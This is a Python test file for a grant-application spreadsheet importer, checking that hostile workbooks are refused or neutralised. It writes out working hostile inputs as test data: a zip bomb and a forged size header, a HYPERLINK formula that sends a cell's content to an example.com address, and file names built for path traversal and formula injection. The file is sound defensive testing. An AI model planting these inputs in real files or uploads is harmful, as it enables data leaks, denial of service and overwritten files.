"""Hostile files on the whole way in, as the window takes it: opened, checked, stored; time and memory are bounded."""

import io
import struct
from pathlib import Path

import openpyxl
import pytest

from grantdesk.errors import Refused
from grantdesk.services import calls, import_files, reports
from grantdesk.services.import_files import Checked
from grantdesk.services.office import Office
from grantdesk.store.lists import applications, batches
from tests.services.samples import toml
from tests.services.test_import_files import HEADING, line
from tests.sheets.files import package, sheet_xml, text_cell, workbook
from tests.sheets.test_hostile_files import MB, bounded, formatted_rows

FORMULA = '=HYPERLINK("http://example.com/?q="&A1,"Жоба")'


@pytest.fixture
def office(tmp_path: Path) -> Office:
    office = Office.open(tmp_path / "office")
    office.act(calls.open_call, toml(), by="clerk")
    yield office
    office.close()


def call_of(office: Office) -> int:
    return office.ask(calls.call_id, "sample-2025-1")


def taken_in(office: Office, file: Path) -> Checked:
    """The file read, checked and stored."""
    opened, layout = office.ask(import_files.open_file, call_of(office), file)
    checked = import_files.check(office, opened, layout, by="clerk").result
    import_files.store(office, checked, by="clerk")
    return checked


def table(*rows: list[object]) -> bytes:
    return workbook([[*HEADING, "Жобаның атауы"], *rows])


def claim_of_two_gigabytes() -> bytes:
    content = bytearray(table([*line(1), "Жоба"]))
    entry = content.find(b"PK\x01\x02")
    content[entry + 24 : entry + 28] = struct.pack("<I", 2_000_000_000)
    return bytes(content)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(lambda: package(b"<worksheet>" + b" " * (300 * MB)), id="zip bomb"),
        pytest.param(claim_of_two_gigabytes, id="a claim of two gigabytes"),
        pytest.param(lambda: package("<!DOCTYPE a [<!ENTITY b 'c'>]>" + sheet_xml("")), id="entities"),
        pytest.param(lambda: b"PK\x03\x04" + b"\0" * 5000, id="no package"),
    ],
)
def test_hostile_file_is_refused_in_words_and_nothing_is_stored(office: Office, tmp_path: Path, content) -> None:
    file = tmp_path / "list.xlsx"
    file.write_bytes(content())
    with bounded(seconds=10, megabytes=64), pytest.raises(Refused) as refused:
        office.ask(import_files.open_file, call_of(office), file)
    assert str(refused.value).startswith("list.xlsx")
    assert office.ask(batches.rows) == []


def cells(number: int, values: list[object]) -> str:
    columns = "ABCDEFGHIJ"
    inside = "".join(text_cell(f"{columns[at]}{number}", str(value)) for at, value in enumerate(values))
    return f'<row r="{number}">{inside}</row>'


@pytest.mark.timeout(120)
def test_a_million_formatted_empty_rows_hide_no_application(office: Office, tmp_path: Path) -> None:
    rows = cells(1, list(HEADING)) + cells(2, line(1)) + formatted_rows(3, 1_048_576)
    file = tmp_path / "list.xlsx"
    file.write_bytes(package(sheet_xml(rows)))
    with bounded(seconds=90, megabytes=96):
        checked = taken_in(office, file)
    assert checked.ready == 1
    assert [row.number for row in office.ask(applications.of_call, call_of(office))] == [1]


def test_formula_and_invisible_signs_stay_harmless_text_also_when_exported(office: Office, tmp_path: Path) -> None:
    file = tmp_path / "list.xlsx"
    file.write_bytes(
        table([*line(1), FORMULA], [*line(2), "Жас а\u202eқын_x0007_\u200b"], [*line(4, last="=1+1"), "Ж"])
    )
    checked = taken_in(office, file)
    rows = office.ask(applications.of_call, call_of(office))
    assert [row.project_title for row in rows] == [FORMULA, "Жас ақын"]
    assert [fault.rule for fault in checked.rows[2].faults] == ["formula_text"]
    content = io.BytesIO(office.ask(reports.call_workbook, call_of(office)))
    found = [cell for page in openpyxl.load_workbook(content) for row in page for cell in row if cell.value == FORMULA]
    assert {cell.data_type for cell in found} == {"s"}


@pytest.mark.parametrize("name", ["..\\..\\evil.xlsx", "=cmd.xlsx", "a\u202eb.xlsx"])
def test_name_of_a_file_leads_nowhere(office: Office, tmp_path: Path, name: str) -> None:
    file = tmp_path / name
    file.write_bytes(table([*line(1), "Жоба"]))
    taken_in(office, file)
    assert [row.file_name for row in office.ask(batches.rows)] == [name]
    assert sorted(path.name for path in office.workspace.root.parent.iterdir()) == sorted(["office", name])
